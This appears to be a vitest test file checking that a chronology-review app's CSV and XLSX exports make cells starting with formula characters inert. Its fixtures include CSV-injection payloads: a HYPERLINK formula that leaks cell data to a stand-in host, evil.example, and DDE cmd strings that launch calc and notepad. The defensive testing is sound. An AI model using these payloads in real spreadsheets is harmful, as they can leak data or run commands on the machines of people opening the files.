// Every spreadsheet tunnelview writes — the merged and side-by-side CSV, the chronology workbook,
// the blank return in CSV and XLSX — shows hostile agency, person and entry text as text: no cell,
// headers included, starts with something a spreadsheet would run as a formula.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { addChronologyEntry } from '../../src/app/chronology.ts';
import { chronologyView } from '../../src/app/chronology-views.ts';
import { addAgency } from '../../src/app/register.ts';
import { spreadsheetCell } from '../../src/chronology/spreadsheet-cell.ts';
import {
  returnTemplateCsv,
  returnTemplateXlsx,
} from '../../src/chronology/write-return-template.ts';
import { workspaceWithReview } from '../helpers/workspace.ts';

const HOSTILE_AGENCY = '=HYPERLINK("http://evil.example/?d="&A2,"Open")';
const HOSTILE_AGENCY_2 = '@SUM(1+1)*cmd|" /C calc"!A0';
const HOSTILE_PERSON = '+Kestrel Dunmore';
const HOSTILE_TEXT = '-2+3 Kestrel Dunmore seen at clinic';
const HOSTILE_AUTHOR = '＝cmd|" /C notepad"!A1';
const HOSTILE_REF = '-HV-000123';

/** The first character of a cell as a spreadsheet reads it, after the spaces it skips. */
function looksLikeFormula(cell: string): boolean {
  return (
    ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'].includes(cell.trimStart()[0] ?? '') ||
    cell.startsWith('\t') ||
    cell.startsWith('\r')
  );
}

async function hostileReview() {
  const handle = await workspaceWithReview();
  const { ws, reviewId } = handle;
  await addAgency(ws, reviewId, { name: HOSTILE_AGENCY, sector: 'police' });
  await addAgency(ws, reviewId, { name: HOSTILE_AGENCY_2, sector: 'health' });
  await addChronologyEntry(ws, reviewId, {
    agencyId: HOSTILE_AGENCY,
    date: '14/03/2023 10:30',
    text: HOSTILE_TEXT,
    author: HOSTILE_AUTHOR,
    sourceRef: HOSTILE_REF,
  });
  await addChronologyEntry(ws, reviewId, {
    agencyId: HOSTILE_AGENCY_2,
    date: '15/03/2023',
    text: `${HOSTILE_PERSON} phoned the duty desk`,
  });
  return handle;
}

async function workbookCells(bytes: Uint8Array | Buffer): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  const cells: string[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (typeof cell.value === 'string') cells.push(cell.value);
      }),
    ),
  );
  return cells;
}

describe('spreadsheet cells', () => {
  it('prefixes what a spreadsheet would run, and leaves other text alone', () => {
    expect(spreadsheetCell('=1+1')).toBe("'=1+1");
    expect(spreadsheetCell('  @SUM(A1)')).toBe("'  @SUM(A1)");
    expect(spreadsheetCell('\tfoo')).toBe("'\tfoo");
    expect(spreadsheetCell('\r=1')).toBe("'\r=1");
    expect(spreadsheetCell('＋1')).toBe("'＋1");
    expect(spreadsheetCell('-')).toBe("'-");
    expect(spreadsheetCell('Home visit = seen')).toBe('Home visit = seen');
    expect(spreadsheetCell("Children's Social Care")).toBe("Children's Social Care");
    expect(spreadsheetCell('')).toBe('');
  });

  it('the merged CSV makes every cell inert, the hostile agency, author and reference included', async () => {
    const { ws, reviewId } = await hostileReview();
    const result = await chronologyView(ws, reviewId, { format: 'csv' });
    if (result.format !== 'csv') throw new Error('expected CSV');
    const rows = parse(result.text) as string[][];
    for (const cell of rows.flat()) expect(looksLikeFormula(cell), cell).toBe(false);
    const byText = rows.find((r) => r.includes(`'${HOSTILE_TEXT}`));
    expect(byText).toEqual(
      expect.arrayContaining([`'${HOSTILE_AGENCY}`, `'${HOSTILE_AUTHOR}`, `'${HOSTILE_REF}`]),
    );
    expect(rows.flat()).toContain(`'${HOSTILE_PERSON} phoned the duty desk`);
  });

  it('the side-by-side CSV makes its header inert: agency names are column headings', async () => {
    const { ws, reviewId } = await hostileReview();
    const result = await chronologyView(ws, reviewId, { format: 'csv', sideBySide: true });
    if (result.format !== 'csv') throw new Error('expected CSV');
    const rows = parse(result.text) as string[][];
    expect(rows[0]).toEqual(expect.arrayContaining([`'${HOSTILE_AGENCY}`, `'${HOSTILE_AGENCY_2}`]));
    for (const cell of rows.flat()) expect(looksLikeFormula(cell), cell).toBe(false);
  });

  it('the chronology workbook makes every cell of both sheets inert, headers included', async () => {
    const { ws, reviewId } = await hostileReview();
    const result = await chronologyView(ws, reviewId, { format: 'xlsx' });
    if (result.format !== 'xlsx') throw new Error('expected XLSX');
    const cells = await workbookCells(result.bytes);
    expect(cells).toEqual(expect.arrayContaining([`'${HOSTILE_AGENCY}`, `'${HOSTILE_AGENCY_2}`]));
    expect(cells).toContain(`'${HOSTILE_AUTHOR}`);
    for (const cell of cells) expect(looksLikeFormula(cell), cell).toBe(false);
  });

  it('the blank return, CSV and XLSX, has no cell a spreadsheet would run, for any agency name', async () => {
    const rows = parse(returnTemplateCsv(), { bom: true }) as string[][];
    for (const cell of rows.flat()) expect(looksLikeFormula(cell), cell).toBe(false);
    const cells = await workbookCells(await returnTemplateXlsx(HOSTILE_AGENCY));
    expect(cells).toContain(`Chronology return for ${HOSTILE_AGENCY}`);
    for (const cell of cells) expect(looksLikeFormula(cell), cell).toBe(false);
  });
});
